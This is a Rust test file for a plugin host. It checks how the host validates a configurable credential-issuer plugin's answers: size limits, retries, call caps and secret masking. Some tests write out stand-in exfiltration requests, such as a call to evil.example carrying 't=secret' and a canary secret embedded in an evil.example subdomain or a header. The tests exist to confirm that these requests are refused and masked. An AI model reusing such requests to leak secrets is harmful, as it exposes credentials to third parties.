//! Answers of a plugin that returns whatever its settings say: which are accepted, and which break the contract.

use std::future::poll_fn;
use std::pin::Pin;
use std::sync::Arc;
use std::task::Poll;
use std::time::Duration;

use locum_abi::answer::{Credential, FailureCode, RevokeAnswer};
use locum_engine::ports::{Issuer, IssuerFailure};
use locum_host::{PluginSet, UpstreamError};
use serde_json::{Value, json};

use crate::harness::{
    NOW, ScriptedUpstreams, call_context, configured, contract_breach, issue, load, load_with, options,
    parrot, presented, reply, take_log,
};

/// An issuer that gives this answer to every call.
fn answering(api_type: &str, answer: &Value) -> (PluginSet, Arc<dyn Issuer>) {
    let set = load(parrot()).unwrap();
    let issuer = configured(&set, api_type, json!({"answers": [answer.to_string()]}));
    (set, issuer)
}

fn issued_text() -> Value {
    json!({"kind": "issued", "credential": {"text": "t"}, "issued_at": NOW, "expires_at": NOW + 60})
}

fn issued_text_with(pointer: &str, value: Value) -> Value {
    let mut answer = issued_text();
    *answer.pointer_mut(pointer).unwrap() = value;
    answer
}

#[tokio::test]
async fn an_issued_text_is_returned() {
    let (_set, issuer) = answering("parrot_text", &issued_text());
    let issued = issue(&*issuer).await.unwrap();
    assert_eq!((issued.credential, issued.expires_at), (Credential::Text("t".to_owned()), Some(NOW + 60)));
}

#[tokio::test]
async fn unknown_members_of_an_answer_are_ignored() {
    let mut answer = issued_text();
    answer["of_the_future"] = json!({"deep": [1]});
    assert!(issue(&*answering("parrot_text", &answer).1).await.is_ok());
}

#[tokio::test]
async fn one_invalid_member_of_an_answer_breaks_the_contract() {
    for (pointer, value, expected) in [
        ("/credential/text", json!("x".repeat(65 << 10)), "the credential is larger than 64 KiB"),
        ("/credential/text", json!("x".repeat(257 << 10)), "its reply is larger than 256 KiB"),
        ("/credential/text", json!(7), "its reply cannot be parsed: Data error"),
        ("/kind", json!("tomorrow"), "its answer has a kind that this host does not know"),
    ] {
        let reason = contract_breach(&*answering("parrot_text", &issued_text_with(pointer, value)).1).await;
        assert!(reason.starts_with(expected), "{pointer}: {reason}");
    }
}

#[tokio::test]
async fn a_malformed_answer_is_refused() {
    let set = load(parrot()).unwrap();
    for answer in ["", "null", "{", "\u{0}", "[[[["] {
        let issuer = configured(&set, "parrot_text", json!({"answers": [answer]}));
        assert!(contract_breach(&*issuer).await.starts_with("its reply cannot be parsed"), "{answer}");
    }
}

#[tokio::test]
async fn a_failure_is_returned_with_its_code() {
    let set = load(parrot()).unwrap();
    let failure = json!({"code": "upstream_refused", "message": "no", "upstream_code": "AccessDenied", "retryable": true});
    match issue(&*configured(&set, "parrot_jwt", json!({"failure": failure.to_string()}))).await {
        Err(IssuerFailure::Failed(failure)) => {
            assert_eq!(failure.code, FailureCode::UpstreamRefused);
            assert_eq!((failure.upstream_code.as_deref(), failure.retryable), (Some("AccessDenied"), true));
        }
        other => panic!("{other:?}"),
    }
    assert!(
        contract_breach(&*configured(&set, "parrot_jwt", json!({"failure": "no"})))
            .await
            .starts_with("its failure cannot be parsed")
    );
}

fn call_to(url: &str) -> String {
    json!({"kind": "call", "request": {"method": "POST", "url": url, "body": "question"}}).to_string()
}

#[tokio::test]
async fn the_replies_of_upstreams_are_in_the_next_input() {
    let echo = r#"{"kind":"issued","credential":{"text":{input}},"issued_at":1900000000}"#;
    let script = ScriptedUpstreams::of([Ok(reply(503, "first")), Ok(reply(200, "second"))]);
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let call = call_to("https://login.example.com/token");
    let issuer = configured(&set, "parrot_jwt", json!({"answers": [call, call, echo]}));
    let Credential::Text(input) = issue(&*issuer).await.unwrap().credential else { panic!("no text") };
    let input: Value = serde_json::from_str(&input).unwrap();
    let reply = |status: u16, body: &str| json!({"status": status, "headers": [], "body": body});
    assert_eq!(input["replies"], json!([reply(503, "first"), reply(200, "second")]));
    let requests = script.requests.lock().unwrap();
    assert_eq!(requests.len(), 2);
    assert_eq!(
        (requests[0].url().as_str(), requests[0].body()),
        ("https://login.example.com/token", "question")
    );
}

#[tokio::test]
async fn an_issuer_may_make_upstream_calls_to_revoke() {
    let script = ScriptedUpstreams::of([Ok(reply(200, "gone"))]);
    let set = load_with(parrot(), options(script, Duration::from_secs(10))).unwrap();
    let answers = json!([call_to("https://login.example.com/revoke"), r#"{"kind":"already_gone"}"#]);
    let issuer = configured(&set, "parrot_jwt", json!({"answers": answers}));
    assert_eq!(issuer.revoke(presented("token"), call_context()).await.unwrap(), RevokeAnswer::AlreadyGone);
}

#[tokio::test]
async fn a_revocation_names_the_credential_and_its_caller() {
    let script = ScriptedUpstreams::of([Ok(reply(200, ""))]);
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let call =
        r#"{"kind":"call","request":{"method":"POST","url":"https://login.example.com/","body":{input}}}"#;
    let issuer = configured(&set, "parrot_jwt", json!({"answers": [call, r#"{"kind":"revoked"}"#]}));
    issuer.revoke(presented("token"), call_context()).await.unwrap();
    let input: Value = serde_json::from_str(script.requests.lock().unwrap()[0].body()).unwrap();
    assert_eq!(input, json!({"credential": "token", "client_id": "caller", "replies": []}));
}

#[tokio::test]
async fn nothing_is_sent_to_an_upstream_before_the_second_poll() {
    let script = ScriptedUpstreams::of([Ok(reply(200, "gone"))]);
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let answers = json!([call_to("https://login.example.com/revoke"), r#"{"kind":"already_gone"}"#]);
    let issuer = configured(&set, "parrot_jwt", json!({"answers": answers}));
    let sent = || script.requests.lock().unwrap().len();
    let poll_once = async |call: &mut Pin<Box<dyn Future<Output = _> + Send + '_>>| {
        poll_fn(|context| Poll::Ready(call.as_mut().poll(context).is_ready())).await
    };
    // A server that lets no more requests wait drops the call here.
    let mut dropped = issuer.revoke(presented("token"), call_context());
    assert!(!poll_once(&mut dropped).await);
    drop(dropped);
    assert_eq!(sent(), 0);
    let mut call = issuer.revoke(presented("token"), call_context());
    assert!(!poll_once(&mut call).await);
    assert_eq!(sent(), 0);
    assert_eq!(call.await.unwrap(), RevokeAnswer::AlreadyGone);
    assert_eq!(sent(), 1);
}

/// Revokes with an issuer that makes one request, and gives `failure` for a reply of 500. The statuses are those of the
/// upstream. Returns whether it revoked, and the number of requests sent.
async fn revoked_after(statuses: &[u16], idempotent: bool, failure: Value) -> (bool, usize) {
    let script = ScriptedUpstreams::of(statuses.iter().map(|status| Ok(reply(*status, ""))));
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let url = "https://login.example.com/revoke";
    let request = json!({"method": "POST", "url": url, "idempotent": idempotent});
    let answers = [json!({"kind": "call", "request": request}), json!({"kind": "revoked"})];
    let answers: Vec<String> = answers.iter().map(Value::to_string).collect();
    let settings = json!({"answers": answers, "failure_of_500": failure.to_string()});
    let issuer = configured(&set, "parrot_jwt", settings);
    let revoked = issuer.revoke(presented("token"), call_context()).await.is_ok();
    let sent = script.requests.lock().unwrap().len();
    (revoked, sent)
}

#[tokio::test]
async fn an_idempotent_request_is_sent_once_more_after_a_retryable_failure() {
    let failure = |changes: &[(&str, Value)]| {
        let mut failure = json!({"code": "upstream_nonsense", "message": "500", "retryable": true});
        changes.iter().for_each(|(member, value)| failure[*member] = value.clone());
        failure
    };
    assert_eq!(revoked_after(&[500, 200], true, failure(&[])).await, (true, 2));
    // Once, and no more than once.
    assert_eq!(revoked_after(&[500, 500, 200], true, failure(&[])).await, (false, 2));
    assert_eq!(revoked_after(&[500, 200], false, failure(&[])).await, (false, 1));
    assert_eq!(revoked_after(&[500, 200], true, failure(&[("retryable", json!(false))])).await, (false, 1));
    let busy = failure(&[("retry_after_seconds", json!(5))]);
    assert_eq!(revoked_after(&[500, 200], true, busy).await, (false, 1));
}

#[tokio::test(start_paused = true)]
async fn a_repeated_request_has_the_time_that_is_left() {
    let script = ScriptedUpstreams::of([Ok(reply(500, ""))]);
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let call = json!({"kind": "call", "request":
        {"method": "POST", "url": "https://login.example.com/", "idempotent": true}});
    let failure = json!({"code": "upstream_nonsense", "message": "500", "retryable": true});
    let settings = json!({"answers": [call.to_string()], "failure_of_500": failure.to_string()});
    let issuer = configured(&set, "parrot_jwt", settings);
    assert!(matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamTimedOut(10_000))));
    assert_eq!(script.requests.lock().unwrap().len(), 2);
}

#[tokio::test]
async fn a_fifth_upstream_call_is_refused() {
    let script = ScriptedUpstreams::of((0..5).map(|_| Ok(reply(200, ""))));
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let issuer = configured(&set, "parrot_jwt", json!({"answers": [call_to("https://login.example.com/")]}));
    assert_eq!(contract_breach(&*issuer).await, "it asks for more than 4 upstream calls");
    assert_eq!(script.requests.lock().unwrap().len(), 4);
}

#[tokio::test]
async fn an_undeclared_host_is_not_called() {
    let script = ScriptedUpstreams::of([Ok(reply(200, ""))]);
    let set = load_with(parrot(), options(script.clone(), Duration::from_secs(10))).unwrap();
    let issuer = configured(
        &set,
        "parrot_jwt",
        json!({"answers": [call_to("https://evil.example/login.example.com?t=secret")]}),
    );
    assert_eq!(
        contract_breach(&*issuer).await,
        "it called https://evil.example, which its manifest does not declare"
    );
    assert!(script.requests.lock().unwrap().is_empty());
}

#[tokio::test(start_paused = true)]
async fn an_upstream_failure_fails_the_request() {
    let script = ScriptedUpstreams::of([
        Err(UpstreamError::Unreachable("refused".to_owned())),
        Err(UpstreamError::TimedOut),
    ]);
    let set = load_with(parrot(), options(script, Duration::from_secs(10))).unwrap();
    let issuer = configured(&set, "parrot_jwt", json!({"answers": [call_to("https://login.example.com/")]}));
    assert!(
        matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamUnreachable(why)) if why == "refused")
    );
    assert!(matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamTimedOut(0))));
    // The script has no more replies, so the upstream never answers: the host stops waiting at the deadline.
    assert!(matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamTimedOut(10_000))));
}

const CANARY: &str = "canary-7f3a9c21";

/// An issuer of the parrot that has a secret and gives these answers.
fn with_secret(settings: Value) -> (PluginSet, Arc<dyn Issuer>) {
    let set = load(parrot()).unwrap();
    let mut settings = settings;
    settings["secret"] = json!(CANARY);
    let issuer = configured(&set, "parrot_jwt", settings);
    (set, issuer)
}

#[tokio::test]
async fn a_credential_that_contains_a_secret_breaks_the_contract() {
    let jwt = |claims: Value| {
        use base64::Engine as _;
        let encode = |json: Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json.to_string());
        json!({"jwt": format!("{}.{}.c2ln", encode(json!({"alg": "HS256"})), encode(claims))})
    };
    let hex = hex::encode(CANARY);
    for (credential, accepted) in [
        (json!({"text": CANARY}), false),
        (json!({"text": "canary-7f3a9c2"}), true),
        (json!({"text": hex}), false),
        (json!({"object": {"a": [CANARY]}}), false),
        (json!({"object": {CANARY: 1}}), false),
        (json!({"object": {"a": ["canary"]}}), true),
        (jwt(json!({"x": CANARY})), false),
        (jwt(json!({"x": "canary"})), true),
    ] {
        let answer =
            json!({"kind": "issued", "credential": credential, "issued_at": NOW, "expires_at": NOW + 60});
        let (_set, issuer) = with_secret(json!({"answers": [answer.to_string()]}));
        if accepted {
            assert!(issue(&*issuer).await.is_ok(), "{credential}");
        } else {
            assert_eq!(
                contract_breach(&*issuer).await,
                "the credential contains the setting `/secret`",
                "{credential}"
            );
        }
    }
}

#[tokio::test]
async fn no_text_of_a_failure_or_log_line_shows_a_secret() {
    let encoded = hex::encode(CANARY);
    for secret in [CANARY, &encoded] {
        let failure = json!({
            "code": "upstream_refused", "message": format!("<{secret}>"), "pointer": format!("/{secret}"),
            "upstream_code": secret, "logs": [{"level": "info", "message": format!("log {secret}")}],
        });
        let (_set, issuer) = with_secret(json!({"failure": failure.to_string()}));
        let _ = take_log();
        let Err(IssuerFailure::Failed(failure)) = issue(&*issuer).await else { panic!("no failure") };
        assert_eq!(failure.message, "upstream code [secret]: <[secret]>");
        assert_eq!(failure.pointer.as_deref(), Some("/[secret]"));
        assert_eq!(failure.upstream_code, None);
        let log = take_log();
        assert!(log.contains("log [secret]") && !log.contains(secret), "{log}");
    }
}

#[tokio::test]
async fn log_lines_keep_their_level_and_those_that_are_too_many_are_counted() {
    async fn logged(lines: &Value) -> Vec<String> {
        let failure = json!({"code": "internal", "message": "m", "logs": lines});
        let (_set, issuer) = with_secret(json!({"failure": failure.to_string()}));
        let _ = take_log();
        assert!(issue(&*issuer).await.is_err());
        take_log().lines().map(|line| line.trim().to_owned()).collect()
    }
    let levels = ["error", "warn", "info", "debug", "trace", "other"];
    let lines: Vec<_> = levels.map(|level| json!({"level": level, "message": "m"})).into();
    let shown = logged(&json!(lines)).await;
    assert_eq!(shown.len(), levels.len(), "{shown:?}");
    for (line, level) in shown.iter().zip(["ERROR", "WARN", "INFO", "DEBUG", "TRACE", "TRACE"]) {
        assert!(line.starts_with(level), "{line}");
    }
    let line = json!({"level": "info", "message": "m"});
    assert_eq!(logged(&json!(vec![&line; 64])).await.len(), 64);
    let shown = logged(&json!(vec![&line; 67])).await;
    assert_eq!(shown.len(), 65);
    assert!(shown[64].starts_with("WARN") && shown[64].contains("3 more log lines were dropped"));
}

#[tokio::test]
async fn a_secret_in_a_refused_upstream_call_is_masked() {
    let call = |request: Value| json!({"kind": "call", "request": request}).to_string();
    for request in [
        json!({"method": "GET", "url": format!("https://{CANARY}.evil.example/"), "body": ""}),
        json!({"method": "GET", "url": "https://login.example.com/", "body": "", "headers": [[CANARY, "x"]]}),
    ] {
        let (_set, issuer) = with_secret(json!({"answers": [call(request)]}));
        let reason = contract_breach(&*issuer).await;
        assert!(reason.contains("[secret]") && !reason.contains(CANARY), "{reason}");
    }
}
